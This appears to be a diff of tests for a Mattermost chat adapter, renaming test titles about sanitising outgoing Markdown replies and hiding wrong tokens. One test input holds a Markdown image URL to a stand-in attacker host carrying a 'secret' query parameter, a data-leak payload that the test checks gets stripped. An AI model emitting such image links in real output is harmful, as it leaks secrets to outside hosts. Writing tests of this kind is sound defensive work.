@@ -18,7 +18,7 @@ async function start(config: object = {}) {
   return { channel, fake, to: room, secret: token }
 }
 
-it('a reply is Markdown in which nobody is called and no picture is fetched', async () => {
+it('a reply is Markdown without mentions and pictures', async () => {
   const { channel, fake, to } = await start()
   const text = '**Done** @channel @ada ![a](https://evil.example/?secret=1) `npm i @scope/x`'
   expect(await channel.send(toOutgoing({ to, text }))).toMatchObject({
@@ -92,6 +92,6 @@ it('a probe names the bot, or says that the token is wrong without showing it', 
   expect(probe?.detail).not.toContain('wrong-one')
 })
 
-describe('on the way', () => {
+describe('faults of the connection to Mattermost', () => {
   goesThroughTroubles((options) => start(options))
 })
